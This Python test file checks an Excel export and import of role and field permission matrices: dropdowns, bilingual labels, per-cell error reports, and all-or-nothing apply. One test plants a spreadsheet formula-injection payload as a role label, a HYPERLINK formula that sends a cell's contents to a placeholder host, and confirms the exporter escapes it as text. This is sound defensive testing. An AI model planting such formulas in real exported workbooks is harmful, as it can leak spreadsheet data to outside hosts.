"""The permission matrices in a workbook (issue 14): exported for a business lead (a sheet per
entity, roles across, dropdowns, sensitive fields marked, frozen headers, no formula runs), read
back cell by cell, and applied all or nothing as one undo step. Real files: xlsxwriter writes,
openpyxl edits as a person's spreadsheet program would, python-calamine reads."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from importers.matrix_read import read_matrices
from importers.matrix_sheets import META_SHEET
from importers.matrix_write import write_matrices
from studio.access.effective import effective_access
from studio.access.matrix_import import ImportMatrices, import_operation
from studio.bundle.sample import sample_bundle
from studio.errors import EditError

WS = "3f2a9c1b"


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    return write_matrices(sample_bundle(), tmp_path / "matrices.xlsx", "en", workspace_id=WS)


def _edit(path: Path, sheet: str, cells: dict[str, object]) -> Path:
    book = openpyxl.load_workbook(path)
    for where, value in cells.items():
        book[sheet][where] = value
    book.save(path)
    return path


def _where(book_path: Path, sheet: str, field: str, role: str) -> str:
    """The cell of ``field`` x ``role`` on ``sheet``, found by its keys as a person would."""
    sheet_ = openpyxl.load_workbook(book_path)[sheet]
    column = next(c.column_letter for c in sheet_[2] if c.value == role)
    row = next(c.row for c in sheet_["A"] if c.value == field)
    return f"{column}{row}"


def test_what_a_business_lead_opens(exported: Path) -> None:
    book = openpyxl.load_workbook(exported)
    assert book.sheetnames[:5] == ["Customer", "Contact", "Lead", "Opportunity", "Contract"]
    assert book[META_SHEET].sheet_state == "hidden"
    contract = book["Contract"]
    assert contract.freeze_panes == "D3"  # field names and role names stay in view
    assert [c.value for c in contract[1]][3:6] == ["Administrator", "IT admin", "Business lead"]
    assert [c.value for c in contract[2]][3:6] == ["admin", "it_admin", "business_lead"]
    amount = next(r for r in contract.iter_rows(min_row=3) if r[0].value == "contract_amount")
    assert amount[2].value == "●" and amount[1].font.color.rgb.endswith("C00000")
    [dropdown] = contract.data_validations.dataValidation
    assert dropdown.formula1 == '"hidden,masked,read,edit"' and dropdown.allow_blank
    entity = book["Entity permissions"]
    assert [c.value for c in entity[1]][4:] == [
        "create",
        "read",
        "update",
        "archive",
        "delete",
        "import",
        "export",
    ]
    sales_customer = next(
        r for r in entity.iter_rows(min_row=3) if (r[0].value, r[2].value) == ("sales", "customer")
    )
    assert [c.value for c in sales_customer[4:9]] == ["all", "team", "own", "own", None]


def test_unchanged_round_trip_changes_nothing(exported: Path) -> None:
    bundle = sample_bundle()
    found = read_matrices(exported, bundle, workspace_id=WS)
    assert found.ok and found.edits == ()
    assert import_operation(found).apply(bundle).bundle.sha256() == bundle.sha256()


def test_edited_cells_come_back_as_exactly_those_cells(exported: Path) -> None:
    bundle = sample_bundle()
    where = _where(exported, "Customer", "mobile", "intern")
    _edit(exported, "Customer", {where: "masked"})
    _edit(exported, "Entity permissions", {"H3": "all"})  # admin archives customers
    found = read_matrices(exported, bundle, workspace_id=WS)
    assert found.ok
    assert [
        (e.sheet, e.cell, e.role, e.field or e.action, e.before, e.after) for e in found.edits
    ] == [
        ("Customer", where, "intern", "mobile", None, "masked"),
        ("Entity permissions", "H3", "admin", "archive", None, "all"),
    ]
    after = ImportMatrices(found.edits).apply(bundle).bundle
    assert effective_access(after, "customer", role="intern").field("mobile").access == "masked"
    assert effective_access(after, "customer", role="admin").action("archive").scope == "all"
    # Nothing else moved: the other cells and permissions are the same objects' values.
    assert {c for c in after.field_permissions} - {c for c in bundle.field_permissions} == {
        next(c for c in after.field_permissions if (c.role, c.field) == ("intern", "mobile"))
    }


def test_words_of_either_language_are_read(tmp_path: Path) -> None:
    bundle = sample_bundle()
    path = write_matrices(bundle, tmp_path / "zh.xlsx", "zh_CN", workspace_id=WS)
    assert openpyxl.load_workbook(path).sheetnames[:2] == ["客户", "联系人"]
    where = _where(path, "客户", "budget", "intern")
    _edit(path, "客户", {where: "edit"})
    cell2 = _where(path, "客户", "notes", "intern")
    _edit(path, "客户", {cell2: "隐藏"})
    found = read_matrices(path, bundle, workspace_id=WS)
    assert found.ok and [e.after for e in found.edits] == ["edit", "hidden"]


def test_bad_cells_are_reported_per_cell_and_nothing_applies(exported: Path) -> None:
    bundle = sample_bundle()
    book = openpyxl.load_workbook(exported)
    customer = book["Customer"]
    customer["D3"] = "everything"  # not an access level
    customer["A5"] = "shoe_size"  # no such field
    customer["M2"] = "ceo"  # an extra column for a role nobody defined
    customer["M3"] = "read"
    customer.merge_cells("B6:C6")
    book["Contact"]["L2"] = None  # the intern column loses its key
    book["Contact"]["L3"] = "read"
    book["Entity permissions"]["E4"] = "sometimes"
    book.save(exported)
    found = read_matrices(exported, bundle, workspace_id=WS)
    texts = [p.text("en") for p in found.problems]
    assert (
        "Customer!D3: everything is no access level: use hidden, masked, read or edit, or leave the cell empty to follow the entity permission."
        in texts
    )
    assert "Customer!A5: customer has no field shoe_size." in texts
    assert "Customer!M2: Unknown role ceo." in texts
    assert "Customer!B6: Merged cells (B6:C6) are not allowed: unmerge them." in texts
    assert "Customer: The row of field email is missing." in texts  # A5 held email
    assert "Contact!L2: A column without a role key in row 2 holds values." in texts
    assert "Contact: The column of role intern is missing." in texts
    assert (
        "Entity permissions!E4: sometimes is no scope: use own, team or all, or leave the cell empty when the action is not allowed."
        in texts
    )
    zh = [p.text("zh_CN") for p in found.problems]
    assert "Customer!M2: 未知的角色 ceo。" in zh
    with pytest.raises(EditError):
        import_operation(found)


def test_a_workbook_of_another_workspace_or_an_older_draft_is_refused(exported: Path) -> None:
    bundle = sample_bundle()
    other = read_matrices(exported, bundle, workspace_id="another")
    assert not other.ok and "another workspace" in other.problems[0].text("en")
    from studio.access.edits import set_cell

    moved_on = set_cell(bundle, "sales", "customer", "notes", "read")
    older = read_matrices(exported, moved_on, workspace_id=WS)
    assert not older.ok and "older version of the draft" in older.problems[0].text("en")
    assert older.edits == ()


def test_labels_never_run_as_formulas(tmp_path: Path) -> None:
    from studio.bundle.model import Label

    bundle = sample_bundle()
    evil = Label(zh_CN='=HYPERLINK("http://x/?"&A1)', en='=HYPERLINK("http://x/?"&A1)')
    roles = tuple(
        r.model_copy(update={"label": evil}) if r.key == "intern" else r for r in bundle.roles
    )
    bundle = bundle.model_copy(update={"roles": roles})
    path = write_matrices(bundle, tmp_path / "m.xlsx", "en", workspace_id=WS)
    sheet = openpyxl.load_workbook(path)["Customer"]
    header = next(c for c in sheet[1] if c.value and "HYPERLINK" in str(c.value))
    assert header.data_type == "s" and header.value.startswith("'=")
    assert read_matrices(path, bundle, workspace_id=WS).ok
